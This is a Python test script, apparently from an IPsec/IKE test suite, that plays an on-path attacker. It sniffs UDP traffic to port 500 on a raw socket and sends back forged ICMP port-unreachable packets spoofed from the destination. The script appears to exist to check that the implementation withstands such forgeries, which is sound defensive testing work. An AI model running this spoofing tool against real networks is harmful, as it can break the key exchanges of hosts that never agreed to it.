#!/usr/bin/env python3
"""An attacker on the segment who sees A's packets but cannot drop them (issue 11.1).

Runs in the bridge's namespace on A's bridge port (an AF_PACKET socket): for every IPv4
UDP datagram from SRC to DST port 500 it sees, it forges an ICMP destination unreachable,
port unreachable (type 3 code 3) "from" DST back to SRC, quoting the datagram as a real
host's kernel would (IP header, UDP header and payload, up to 548 bytes), and sends it
out of the same port toward A.  Counts what it forged in COUNT_FILE after each one.

usage: icmp_forger.py IFACE SRC DST COUNT_FILE
"""
import socket
import struct
import sys

ETH_P_ALL = 0x0003


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def forge(frame, src_ip, dst_ip):
    eth_dst, eth_src = frame[0:6], frame[6:12]
    ip = frame[14:]
    ihl = (ip[0] & 15) * 4
    total = struct.unpack("!H", ip[2:4])[0]
    quote = ip[:min(total, 548)]
    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + quote
    icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0, 0, 64, 1, 0,
                      dst_ip, src_ip)
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    # Back toward A: from B's MAC (the frame's destination) to A's.
    return eth_src + eth_dst + b"\x08\x00" + hdr + icmp, ihl


def main():
    iface, src, dst, count_file = sys.argv[1:5]
    src_ip, dst_ip = socket.inet_aton(src), socket.inet_aton(dst)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    n = 0
    with open(count_file, "w") as f:
        f.write("0\n")
    while True:
        frame, addr = s.recvfrom(65535)
        if addr[2] == socket.PACKET_OUTGOING or len(frame) < 14 + 28:
            continue
        if frame[12:14] != b"\x08\x00":
            continue
        ip = frame[14:]
        ihl = (ip[0] & 15) * 4
        if ip[9] != 17 or ip[12:16] != src_ip or ip[16:20] != dst_ip:
            continue
        dport = struct.unpack("!H", ip[ihl + 2:ihl + 4])[0]
        if dport != 500:
            continue
        out, _ = forge(frame, src_ip, dst_ip)
        s.send(out)
        n += 1
        with open(count_file, "w") as f:
            f.write("%d\n" % n)


if __name__ == "__main__":
    main()
